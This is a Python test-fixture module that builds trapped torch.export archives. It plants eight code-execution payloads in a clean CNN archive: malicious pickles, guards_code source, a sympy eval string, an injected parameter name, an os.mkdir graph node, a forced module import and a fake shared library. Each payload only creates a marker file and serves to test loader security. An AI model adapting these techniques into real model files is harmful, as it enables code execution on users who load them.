"""Booby-trapped ``torch.export`` archives: a clean program with one part replaced by a payload
that creates a marker file when torch's own loader (or the loaded module) runs it.

Each trap is a real attack on ``torch.export.load`` in torch 2.14.1 (the tests prove it where
torch runs the payload), built by rewriting a clean archive record by record with torch's own
archive reader and writer.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
from collections.abc import Callable
from pathlib import Path

import torch
from torch import nn
from torch.export.pt2_archive._package import PT2ArchiveReader, PT2ArchiveWriter

Records = dict[str, bytes]


class _Opens:
    """Unpickling this calls ``os.mkdir(marker)``: the marker appears if the pickle was loaded."""

    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __reduce__(self):
        return (os.mkdir, (self.marker,))


def _pickle_of(obj: object) -> bytes:
    buffer = io.BytesIO()
    torch.save(obj, buffer)
    return buffer.getvalue()


def clean_program(path: Path) -> Path:
    """A small CNN exported with ``torch.export.save``: conv -> relu, 1x3x16x16 inputs."""
    torch.manual_seed(0)
    net = nn.Sequential(nn.Conv2d(3, 4, 3), nn.ReLU()).eval()
    torch.export.save(torch.export.export(net, (torch.randn(1, 3, 16, 16),)), path)
    return path


def _json(records: Records, name: str) -> dict:
    return json.loads(records[name])


def _put(records: Records, name: str, doc: dict) -> None:
    records[name] = json.dumps(doc).encode()


def sample_inputs(records: Records, marker: Path) -> None:
    """The sample inputs are a pickle of an object: torch falls back to weights_only=False."""
    records["data/sample_inputs/model.pt"] = _pickle_of(_Opens(marker))


def pickled_weight(records: Records, marker: Path) -> None:
    """A weight marked ``use_pickle``: torch loads it with weights_only=False."""
    config = _json(records, "data/weights/model_weights_config.json")
    entry = config["config"]["0.bias"]
    entry["use_pickle"] = True
    records["data/weights/" + entry["path_name"]] = _pickle_of(_Opens(marker))
    _put(records, "data/weights/model_weights_config.json", config)


def guards_code(records: Records, marker: Path) -> None:
    """``guards_code`` is Python source that ``ExportedProgram.module()`` executes."""
    program = _json(records, "models/model.json")
    program["guards_code"] = [f"open({str(marker)!r}, 'w').close() is None"]
    _put(records, "models/model.json", program)


def sympy_size(records: Records, marker: Path) -> None:
    """A symbolic size: the deserializer hands its text to ``sympy.sympify`` (an eval)."""
    program = _json(records, "models/model.json")
    values = program["graph_module"]["graph"]["tensor_values"]
    first = next(iter(values))
    values[first]["sizes"][0] = {
        "as_expr": {"expr_str": f"open({str(marker)!r}, 'w').close()", "hint": {"as_int": 1}}
    }
    _put(records, "models/model.json", program)


def parameter_name(records: Records, marker: Path) -> None:
    """A parameter's name is pasted into the module's generated Python (``getattr(self, "...")``)
    and runs on every forward pass. The marker's path must hold no dot (names split on dots)."""
    evil = f'0"),getattr(open("{marker}","w"),"close")(),getattr(self,"0'
    config = _json(records, "data/weights/model_weights_config.json")
    config["config"][evil] = config["config"].pop("0.bias")
    _put(records, "data/weights/model_weights_config.json", config)
    program = _json(records, "models/model.json")
    for spec in program["graph_module"]["signature"]["input_specs"]:
        if spec.get("parameter", {}).get("parameter_name") == "0.bias":
            spec["parameter"]["parameter_name"] = evil
    _put(records, "models/model.json", program)


def callable_target(records: Records, marker: Path) -> None:
    """A node whose target is any callable reachable from ``torch.`` (here ``os.mkdir``)."""
    program = _json(records, "models/model.json")
    program["graph_module"]["graph"]["nodes"].insert(
        0,
        {
            "target": "torch.serialization.os.mkdir",
            "name": "evil",
            "outputs": [],
            "metadata": {},
            "inputs": [{"name": "path", "arg": {"as_string": str(marker)}, "kind": 1}],
            "is_hop_single_tensor_return": None,
        },
    )
    _put(records, "models/model.json", program)


def trap_module(marker: Path) -> str:
    """The name of a module, written beside ``marker``, whose import creates ``marker`` (the
    folder must be on ``sys.path`` for the import to find it)."""
    name = "convscope_trap_" + hashlib.sha256(str(marker).encode()).hexdigest()[:12]
    (marker.parent / f"{name}.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
    return name


def pytree_import(records: Records, marker: Path) -> None:
    """A pytree context naming an enum: torch imports the module it names (any module)."""
    program = _json(records, "models/model.json")
    root = program["graph_module"]["module_call_graph"][0]["signature"]
    spec = json.loads(root["in_spec"])
    spec[1]["children_spec"][1]["context"] = json.dumps(
        [{"__enum__": True, "fqn": f"{trap_module(marker)}:X", "name": "Y"}]
    )
    root["in_spec"] = json.dumps(spec)
    _put(records, "models/model.json", program)


def shared_library(records: Records, marker: Path) -> None:
    """An AOTInductor member: ``torch.export.load`` loads ``data/aotinductor/`` as native code."""
    records["data/aotinductor/model/model.so"] = b"\x7fELF not really"


TRAPS: dict[str, Callable[[Records, Path], None]] = {
    "sample_inputs": sample_inputs,
    "pickled_weight": pickled_weight,
    "guards_code": guards_code,
    "sympy_size": sympy_size,
    "parameter_name": parameter_name,
    "callable_target": callable_target,
    "pytree_import": pytree_import,
    "shared_library": shared_library,
}


def trapped_program(trap: str, path: Path, marker: Path) -> Path:
    """A clean program with trap ``trap`` set to create ``marker``, saved at ``path``."""
    clean = clean_program(path.with_name(path.stem + "-clean.pt2"))
    with PT2ArchiveReader(str(clean)) as reader:
        records = {name: reader.read_bytes(name) for name in reader.get_file_names()}
    TRAPS[trap](records, marker)
    with PT2ArchiveWriter(str(path)) as writer:
        for name, data in records.items():
            if not (name.startswith(".data/") or name == "byteorder"):  # the writer adds these
                writer.write_bytes(name, data)
    clean.unlink()
    return path
